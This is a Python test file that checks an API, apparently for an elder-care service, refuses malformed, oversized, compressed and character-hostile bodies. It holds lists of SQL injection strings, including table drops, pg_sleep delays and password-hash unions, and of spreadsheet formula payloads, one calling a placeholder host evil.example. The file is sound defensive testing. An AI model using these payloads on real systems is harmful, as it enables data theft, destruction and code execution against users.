"""What comes in, however it is meant: refused with a code, soon, changing nothing and repeating nothing."""

import asyncio
import codecs
import csv
import gzip
import io
import json
import re
import time
from collections.abc import AsyncIterator, Mapping
from datetime import date
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from api.deps import Service
from api.messages import CATALOGUE
from api.schemas.base import MOST_FAULTS
from api.security import Keys
from tests.builders import VILLAGE, a_liaison, an_instructor, settle
from tests.conftest import ClientOf, Urls
from tests.elders.forms import a_form, an_id_number
from tests.fingerprints import fingerprints
from tests.imports.sending import CSV
from tests.imports.sheets import VISIT
from tests.imports.sheets import a_visit as a_line
from tests.promises.calls import Calls, Place, calls_to, texts_in, with_value
from tests.promises.names import promise
from tests.promises.plugin import Counted, Told
from tests.promises.pouring import MEBIBYTE, in_chunks, pour, with_a_length_that_lies, with_its_length
from tests.promises.servers import serving

CANARY = "金丝雀七三一九"


@pytest.fixture
async def calls(app: FastAPI, service: Service) -> AsyncIterator[Calls]:
    async with calls_to(app, service) as made:
        yield made


def assert_refused(answer: httpx.Response) -> None:
    """With a problem that has a code and nothing of what was sent."""
    assert 400 <= answer.status_code < 500, f"{answer.request.method} {answer.request.url.path}: {answer.text}"
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["code"] in CATALOGUE
    assert CANARY not in answer.text
    assert len(answer.json()["errors"]) <= MOST_FAULTS


async def unchanged(database: Urls) -> Mapping[str, object]:
    """What is equal as long as nothing was taken; a wrong password is counted all the same."""
    return {table: rows for table, rows in (await fingerprints(database)).items() if table != "failed_sign_ins"}


# --- P20 ----------------------------------------------------------------------------------------------

_DEEP, _WIDE, _LONG = 10_000, 20_000, 100_000
WHOLE: dict[str, bytes] = {
    "arrays in arrays": b"[" * _DEEP + b"]" * _DEEP,
    "objects in objects": b'{"a":' * _DEEP + b"1" + b"}" * _DEEP,
    "a little too deep": b'{"a":' * 33 + b"1" + b"}" * 33,
    "many keys": json.dumps({f"{CANARY}{n}": n for n in range(_WIDE)}).encode(),
    "a long array": b"[" + b"0," * _LONG + b"0]",
    "many objects": b"[" + b"{}," * _LONG + b"{}]",
    "a text without an end": b"{" * 40 + b'"' + b'\\"' * (_LONG * 5),
    "a long text": json.dumps(CANARY * _LONG).encode(),
    "a long key": json.dumps({CANARY * _LONG: 1}).encode(),
    "the same key twice": b'{"a":1,"a":2}',
    "the same key spelt twice": rb'{"a":1,"\u0061":2}',
    "UTF-16": json.dumps({"name": CANARY}).encode("utf-16"),
    "UTF-32": json.dumps({"name": CANARY}).encode("utf-32"),
    "no UTF-8": b'{"name":"\xc3\x28"}',
    "a byte order mark": b'\xef\xbb\xbf{"a":1}',
    "more behind the end": b"{} {}",
    "a comment": b"{/* */}",
    "half of one": b'{"a":',
}
VALUES: dict[str, bytes] = {
    "no number": b"NaN",
    "without end": b"Infinity",
    "without end below": b"-Infinity",
    "too large to keep": b"1e999",
    "an integer of 65 bits": b"36893488147419103232",
    "one beyond what is exact": b"-9007199254740993",
    "an integer of 5,000 digits": b"9" * 5_000,
    "half of a character": rb'"\ud83d"',
    "nothing at all": rb'"\u0000"',
    "a long array": b"[" + b"0," * 3_000 + b"0]",
    "a wide object": json.dumps({f"{CANARY}{n}": n for n in range(300)}).encode(),
}


@promise("P20")
async def test_a_body_made_to_hurt_is_refused_wherever_it_is_sent(
    calls: Calls, database: Urls, counted: Counted, told: Told
) -> None:
    made = await calls.of(calls.some(counted(4, 1000), lambda each: each.takes_json))
    made = [each for each in made if each.body is not None]
    before, slowest, sent = await unchanged(database), 0.0, 0
    for call in made:
        fields = sorted(call.body) or ["a"]
        said = [b"{" + b",".join(f'"{name}":'.encode() + value for name in fields) + b"}" for value in VALUES.values()]
        for body in [*WHOLE.values(), *said]:
            began = time.perf_counter()
            answer = await call.send(body)
            slowest, sent = max(slowest, time.perf_counter() - began), sent + 1
            if answer.status_code != 207:  # an answer item by item says so of each
                assert_refused(answer)
    assert await unchanged(database) == before
    assert slowest < 2
    told(f"{len(made)} operations, {sent} bodies, none taken, the slowest answer {slowest * 1000:.0f} ms")


# --- P19 ----------------------------------------------------------------------------------------------

SAID = b"HTTP/1.1 413 "


@promise("P19")
async def test_a_body_over_its_size_is_refused_from_its_length_or_on_its_way(
    database: Urls, service: Service, keys: Keys, tmp_path: Path, counted: Counted, told: Told
) -> None:
    token = await settle(service, a_liaison())
    size, at_once = counted(6, 200) * MEBIBYTE, counted(2, 20)
    with serving(database, keys, tmp_path, now=service.clock().isoformat()) as server:
        await server.up()
        before = resident_mebibytes(server.pid)
        for framed in (with_its_length, in_chunks):
            answers = await asyncio.gather(*(pour(server.url, token, framed, size) for _ in range(at_once)))
            for answer in answers:
                head, _, body = answer.partition(b"\r\n\r\n")
                assert head.startswith(SAID), head
                assert b'"code": "body_too_large"' in body
        grown = resident_mebibytes(server.pid) - before
        lying = await pour(server.url, token, with_a_length_that_lies, 3 * MEBIBYTE)
        assert re.match(rb"HTTP/1.1 4\d\d ", lying)
    assert grown < 50
    told(f"{2 * at_once} bodies of {size // MEBIBYTE} MiB, all 413, {grown} MiB more memory")


def resident_mebibytes(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(status.split("VmRSS:")[1].split()[0]) // 1024


# --- P21 ----------------------------------------------------------------------------------------------


@promise("P21")
@pytest.mark.parametrize("encoding", ["gzip", "br", "deflate", "zstd", "GZIP", "identity, gzip", "x"])
async def test_a_compressed_body_is_refused_before_it_is_opened(client: httpx.AsyncClient, encoding: str) -> None:
    bomb = gzip.compress(bytes(20 * MEBIBYTE))
    for path in ("/v1/visits", "/oauth/token", "/v1/elder-imports", "/nowhere"):
        answer = await client.post(path, content=bomb, headers={"Content-Encoding": encoding})
        assert_refused(answer)
        assert (answer.status_code, answer.json()["code"]) == (415, "encoding_unsupported")
        assert answer.headers["accept-encoding"] == "identity"


@promise("P21")
async def test_an_uncompressed_body_may_say_so(client_of: ClientOf) -> None:
    liaison = await client_of(a_liaison())
    answer = await liaison.post("/v1/visits/reconcile", json={}, headers={"Content-Encoding": "identity"})
    assert answer.json()["code"] != "encoding_unsupported"


# --- P22 ----------------------------------------------------------------------------------------------

HOSTILE = ["\0", "\x07", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029", "\u202e", "\u2066", "\ud83d", "\udc00"]
RARE = ["𠮷田花", "㐂阿婆", "𪚥龘龘", "阿依古丽·买买提", "𡈽屋", "𰻞面嫂", "\u9fff婆婆", "\ue5e5伯"]


@promise("P22")
async def test_no_text_of_any_operation_takes_a_hostile_character(
    calls: Calls, app: FastAPI, database: Urls, counted: Counted, told: Told
) -> None:
    drawn = calls.some(counted(12, 1000), lambda each: each.takes_json and each.id not in SECRET)
    made = [each for each in await calls.of(drawn) if each.body is not None]
    before, places, sent = await unchanged(database), 0, 0
    taken: list[str] = []
    for call in made:
        for place in texts_in(app.openapi(), call.operation.id):
            if place[0] == "workers":  # of a roster beside records, which are taken all the same
                continue
            places += 1
            for character in HOSTILE[:: 1 if places % 5 == 1 else 4]:
                text = f"{CANARY}{character}{CANARY}"
                answer = await call.send_body(with_value(call.body, place, text))
                sent += 1
                if not _refused_for(answer, place):
                    taken.append(f"{call.operation.id} {place} {character!a}: {answer.text}")
    assert not taken, "\n".join(taken)
    assert await unchanged(database) == before
    told(f"{len(made)} operations, {places} texts, {sent} sent, none taken")


SECRET = {"change_my_password"}  # a password is whatever its owner likes


def _refused_for(answer: httpx.Response, place: Place) -> bool:
    """Whether the refusal is about the place: by its pointer, or by that of the part it is in; and without the text."""
    pointer = "".join(f"/{part}" for part in place)
    errors = answer.json()["items"][0]["errors"] if answer.status_code == 207 else answer.json().get("errors", ())
    said = [error["pointer"] for error in errors]
    about = any(each and (pointer.endswith(each) or pointer.startswith(each)) for each in said)
    return about and answer.status_code in (207, 422) and CANARY not in answer.text


@promise("P22")
async def test_rare_characters_come_back_as_they_were_sent(client_of: ClientOf, told: Told) -> None:
    liaison = await client_of(a_liaison())
    for name in RARE:
        form = a_form(name=name, alias=name[:3], residence={"village": VILLAGE, "detail": f"{name}厝👵12号"})
        made = await liaison.post("/v1/elders", json=form)
        assert made.status_code == 201, made.text
        read = (await liaison.get(f"/v1/elders/{made.json()['id']}")).json()
        [found] = (await liaison.post("/v1/elders/search", json={"name": name})).json()["data"]
        assert (read["name"], read["alias"], found["name"]) == (name, name[:3], name)
    told(f"{len(RARE)} names, stored, read and found")


@promise("P22")
async def test_names_are_kept_composed_and_numbers_in_plain_digits(client_of: ClientOf) -> None:
    liaison = await client_of(a_liaison())
    numbers = (an_id_number(date(1940, 1, day), 998) for day in range(1, 32))
    form = a_form(name="e\u0301lise女", resident_id=next(number for number in numbers if number.endswith("X")))
    made = await liaison.post("/v1/elders", json={**form, "resident_id": form["resident_id"].lower()})
    assert made.status_code == 201, made.text
    assert (await liaison.get(f"/v1/elders/{made.json()['id']}")).json()["name"] == "élise女"
    wide = {**a_form(), "resident_id": form["resident_id"].translate({ord(str(n)): ord("０") + n for n in range(10)})}
    assert_refused(await liaison.post("/v1/elders", json=wide))


# --- P23 ----------------------------------------------------------------------------------------------

NONSENSE = "nothing-of-the-kind"
INJECTIONS = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "') OR ('1'='1",
    "1 OR 1=1",
    "'; DROP TABLE elders; --",
    "'; SELECT pg_sleep(5); --",
    "' || pg_sleep(5) || '",
    "1; SELECT pg_sleep(5)",
    "(SELECT pg_sleep(5))",
    "1 UNION SELECT password_hash FROM users",
    "id, (SELECT password_hash FROM users LIMIT 1)",
    "id; --",
    "-id",
    "%",
    "_%",
    "\\",
    "\\'; --",
    "$.a' OR '1'='1",
    "{}",
    "$$; SELECT 1; $$",
    "/*",
    "%27%20OR%201=1",
    "＇ OR 1=1",
]


@promise("P23")
async def test_nothing_in_a_query_becomes_sql(
    calls: Calls, app: FastAPI, database: Urls, counted: Counted, told: Told
) -> None:
    asked_of = queries_of(app.openapi())
    made = await calls.of(calls.some(counted(8, 1000), lambda each: each.id in asked_of and each.reads))
    before, slowest, sent, taken = await unchanged(database), 0.0, 0, 0
    for call in made:
        for name in asked_of[call.operation.id]:
            harmless = await call.send(**{name: NONSENSE})
            for text in INJECTIONS[sent % 3 :: counted(3, 1)]:
                began = time.perf_counter()
                answer = await call.send(**{name: text})
                slowest, sent = max(slowest, time.perf_counter() - began), sent + 1
                if answer.is_success:
                    taken += 1
                    assert answer.json() == harmless.json(), f"{answer.request.url}"
                else:
                    assert_refused(answer)
    assert await unchanged(database) == before
    assert slowest < 2
    told(f"{len(made)} operations, {sent} injections, {taken} taken for harmless text, slowest {slowest * 1000:.0f} ms")


def queries_of(document: Mapping[str, Any]) -> Mapping[str, list[str]]:
    """The names in the query of every operation that reads one."""
    found = (each for methods in document["paths"].values() for each in methods.values())
    named = {
        each["operationId"]: [one["name"] for one in each.get("parameters", ()) if one["in"] == "query"]
        for each in found
    }
    return {name: names for name, names in named.items() if names}


@promise("P23")
async def test_what_is_searched_for_is_only_that(client_of: ClientOf, told: Told) -> None:
    liaison = await client_of(a_liaison())
    kept = "'; DROP TABLE elders; --"
    made = await liaison.post("/v1/elders", json=a_form(name="林阿妹", alias=kept))
    assert made.status_code == 201, made.text
    for text in INJECTIONS:
        answer = await liaison.post("/v1/elders/search", json={"name": text})
        assert answer.status_code == 422 or answer.json()["data"] == [], text
    assert (await liaison.get(f"/v1/elders/{made.json()['id']}")).json()["alias"] == kept
    told(f"{len(INJECTIONS)} searches found nobody")


# --- P24 ----------------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "350303194601019900",
    "=1,2",
]
TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\0")


@promise("P24")
async def test_no_cell_of_a_file_that_is_sent_back_begins_a_formula(client_of: ClientOf, told: Told) -> None:
    office = await client_of(an_instructor())
    headings, rows = [*VISIT, "=自己的列"], [[*a_line(服务方式=text).values(), text] for text in FORMULAS]
    sheet = io.StringIO()
    csv.writer(sheet).writerows([headings, *rows])
    sent = await office.post(
        "/v1/visit-imports", content=sheet.getvalue().encode("utf-8-sig"), headers={"Content-Type": CSV}
    )
    back = await office.get(f"/v1/visit-imports/{sent.json()['id']}/errors")
    assert back.content.startswith(codecs.BOM_UTF8)
    assert re.fullmatch(r'attachment; filename="[\w.-]+"', back.headers["content-disposition"])
    lines = list(csv.reader(io.StringIO(back.content.decode("utf-8-sig"), newline="")))
    assert {len(line) for line in lines} == {len(headings) + 1}
    assert not [cell for line in lines for cell in line if cell.startswith(TRIGGERS)]
    assert {cell for line in lines for cell in line if re.fullmatch(r"'?\d{17}[\dX]", cell) and cell[0] != "'"} == set()
    column = len(VISIT)
    assert [line[column].removeprefix("'").strip() for line in lines[1:]] == [text.strip() for text in FORMULAS]
    told(f"{len(lines)} lines of {len(headings) + 1} cells, none of them a formula")
